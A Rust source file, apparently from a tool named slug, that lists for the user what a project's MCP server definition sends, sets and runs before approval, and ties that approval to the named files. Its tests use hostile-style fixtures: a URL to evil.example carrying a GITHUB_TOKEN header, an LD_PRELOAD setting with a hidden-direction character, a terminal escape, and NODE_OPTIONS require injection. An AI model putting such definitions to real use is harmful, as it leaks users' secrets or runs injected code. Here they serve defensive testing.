//! What a yes to a server of a project covers, and what the user is shown of the server before it.
//!
//! Nothing that the definition sends or sets is left out, and variables stay as they are written: a
//! header can carry a secret of the user's to a server of somebody else's. The yes covers the files of
//! the folder that the definition names, as a hook's does; which files these run in turn is not known.

use std::cell::RefCell;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use crate::domain::ContentHash;
use crate::domain::sanitize::sanitize_line;
use crate::hooks::{HookScript, scripts_of_program};
use crate::platform::server_program::is_variable_name;

use super::definition::{McpServerDefinition, McpTransport, shell_word};

/// The most characters of a value that are shown, and how many of them are its end.
const MAX_VALUE: usize = 160;
const VALUE_END: usize = 40;

impl McpServerDefinition {
    /// A hash of what the user agrees to in `folder`: the definition, and the files there that it
    /// names as they are now. Blocks.
    pub(super) fn hash_in(&self, folder: &Path) -> ContentHash {
        let files = self.files(folder);
        if files.is_empty() {
            return self.hash();
        }
        let mut bytes = self.hash().as_str().as_bytes().to_vec();
        for (file, hash) in &files {
            // No path has the byte that ends it here.
            bytes.extend(file.as_os_str().as_encoded_bytes().iter().chain(b"\0"));
            bytes.extend(hash.as_str().as_bytes());
        }
        ContentHash::of(&bytes)
    }

    /// All that the user has to see before this server may start in `folder`, a line each, harmless
    /// for a terminal. Blocks.
    pub fn particulars(&self, folder: &Path) -> Vec<String> {
        let files = self.files(folder);
        let mut lines = match &self.transport {
            McpTransport::Stdio { env, cwd, .. } => {
                let place =
                    cwd.as_ref().map(|it| format!(" in {}", shell_word(&it.to_string_lossy())));
                let starts = format!("{}{}", self.summary(), place.unwrap_or_default());
                let set =
                    env.iter().map(|(name, it)| format!("sets {name}={}", shell_word(&cut(it))));
                std::iter::once(starts).chain(set).collect::<Vec<_>>()
            }
            McpTransport::Http { url, headers } | McpTransport::Sse { url, headers } => {
                let sent = headers.iter().map(|(name, it)| format!("sends {name}: {}", cut(it)));
                std::iter::once(url.clone()).chain(sent).collect()
            }
        };
        let to = self.summary();
        lines.extend(self.variables().iter().map(|name| match &self.transport {
            McpTransport::Stdio { command, .. } => format!("gives your {name} to {command}"),
            McpTransport::Http { .. } | McpTransport::Sse { .. } => {
                format!("sends your {name} to {to}")
            }
        }));
        let covered =
            |(file, _): &HookScript| format!("a yes covers {} as it is now", file.display());
        lines.extend(files.iter().map(covered));
        if let McpTransport::Stdio { command, .. } = &self.transport {
            // Which files a program uses only the program knows: a name among its words may mean nothing.
            let which = if files.is_empty() { "files" } else { "other files" };
            lines.push(format!(
                "slug does not ask again when {which} here that {command} uses change"
            ));
        }
        lines.iter().map(|line| sanitize_line(line)).collect()
    }

    /// The variables of slug's environment that the definition uses.
    pub fn variables(&self) -> BTreeSet<String> {
        let names = RefCell::new(BTreeSet::new());
        self.expanded(&|name| {
            if is_variable_name(name) {
                names.borrow_mut().insert(name.to_owned());
            }
            None
        });
        names.into_inner()
    }

    /// The files of `folder` that the definition names.
    fn files(&self, folder: &Path) -> Vec<HookScript> {
        // Only to find the files: the values go nowhere.
        match self.expanded(&|name| std::env::var(name).ok()).0 {
            McpTransport::Http { .. } | McpTransport::Sse { .. } => Vec::new(),
            McpTransport::Stdio { command, args, env, cwd } => {
                let folder = folder.canonicalize().unwrap_or_else(|_| folder.to_owned());
                let cwd = folder.join(cwd.unwrap_or_else(PathBuf::new));
                let words = std::iter::once(&command).chain(&args).chain(env.values());
                scripts_of_program(words.map(String::as_str), &cwd, &folder).0
            }
        }
    }
}

/// A value of a definition; of a long one the beginning and the end, and how much is left out.
fn cut(value: &str) -> String {
    let count = value.chars().count();
    if count <= MAX_VALUE {
        return value.to_owned();
    }
    let start: String = value.chars().take(MAX_VALUE - VALUE_END).collect();
    let end: String = value.chars().skip(count - VALUE_END).collect();
    format!("{start} [… {} characters …] {end}", count - MAX_VALUE)
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};
    use tempfile::TempDir;

    use super::super::definition::McpDefinitions;
    use super::super::store::McpStore;
    use super::*;

    fn server(keys: &Value) -> McpServerDefinition {
        let text = json!({"mcpServers": {"s": keys}}).to_string();
        McpDefinitions::read_file(&text).servers.remove(0)
    }

    /// S55: whatever a definition sends or sets is shown, and so is each of the user's variables.
    #[test]
    fn s55_all_that_a_server_gets_is_shown() {
        let folder = TempDir::new().unwrap();
        let lines = |keys: Value| server(&keys).particulars(folder.path());
        assert_eq!(
            lines(json!({
                "command": "x", "args": ["${A}", "${B:-b c}"], "cwd": "sub",
                "env": {"K": "v", "LD_PRELOAD": "./a b\n\u{202e}${C}${1}"},
            })),
            [
                "x ${A} '${B:-b c}' in sub",
                "sets K=v",
                "sets LD_PRELOAD='./a b␊‹U+202E›${C}${1}'",
                "gives your A to x",
                "gives your B to x",
                "gives your C to x",
                "slug does not ask again when files here that x uses change",
            ]
        );
        assert_eq!(
            lines(json!({
                "url": "https://u:p@evil.example/mcp?k=${KEY}",
                "headers": {"X-Client": "${GITHUB_TOKEN}", "Y": "\u{1b}[2J"},
            })),
            [
                "https://u:p@evil.example/mcp?k=${KEY}",
                "sends X-Client: ${GITHUB_TOKEN}",
                "sends Y: ␛[2J",
                "sends your GITHUB_TOKEN to https://evil.example/mcp",
                "sends your KEY to https://evil.example/mcp",
            ]
        );
        let long = format!("{}${{HIDDEN}}{}end", "a".repeat(300), "é".repeat(300));
        let shown = lines(json!({"url": "https://a", "headers": {"H": long}}));
        let cut =
            format!("sends H: {} [… 452 characters …] {}end", "a".repeat(120), "é".repeat(37));
        assert_eq!(shown, ["https://a", &cut, "sends your HIDDEN to https://a"]);
    }

    /// S66: a yes to a server ends with a change of a file that its definition names, however it
    /// names it.
    #[test]
    fn s66_a_yes_covers_the_files_that_a_server_names() {
        let outer = TempDir::new().unwrap();
        let work = outer.path().canonicalize().unwrap().join("w");
        let file = work.join("sub/x.js");
        std::fs::create_dir_all(work.join("sub")).unwrap();
        let store = McpStore::new(outer.path());
        for keys in [
            json!({"command": "./sub/x.js"}),
            json!({"command": "${NO_SUCH_VARIABLE:-./sub/x.js}"}),
            json!({"command": file}),
            json!({"command": "node", "args": ["sub/x.js"]}),
            json!({"command": "node", "args": ["x.js"], "cwd": "sub"}),
            json!({"command": "node", "args": ["w/sub/x.js"], "cwd": ".."}),
            json!({"command": "node", "args": ["--require=./sub/x.js", "-e", ""]}),
            json!({"command": "node", "args": ["-rsub/x.js"]}),
            json!({"command": "bash", "args": ["-c", "cd sub && exec ./x.js 2>log"]}),
            json!({"command": "uv", "args": ["run", "--directory", "sub", "x.js"]}),
            json!({"command": "node", "env": {"NODE_OPTIONS": "--require ./sub/x.js"}}),
        ] {
            std::fs::write(&file, "1").unwrap();
            let server = server(&keys);
            store.allow(&work, &server).unwrap();
            assert!(store.is_allowed(&work, &server).unwrap(), "{keys}");
            let shown = server.particulars(&work);
            assert!(shown.contains(&"a yes covers sub/x.js as it is now".into()), "{shown:?}");
            assert!(
                shown.last().unwrap().starts_with("slug does not ask again when other files"),
                "{shown:?}"
            );
            std::fs::write(&file, "2").unwrap();
            assert!(!store.is_allowed(&work, &server).unwrap(), "changed: {keys}");
            std::fs::remove_file(&file).unwrap();
            assert!(!store.is_allowed(&work, &server).unwrap(), "gone: {keys}");
            let shown = server.particulars(&work);
            assert!(
                shown.last().unwrap().starts_with("slug does not ask again when files"),
                "{shown:?}"
            );
            store.allow(&work, &server).unwrap();
            std::fs::write(&file, "1").unwrap();
            assert!(!store.is_allowed(&work, &server).unwrap(), "new: {keys}");
        }
    }
}
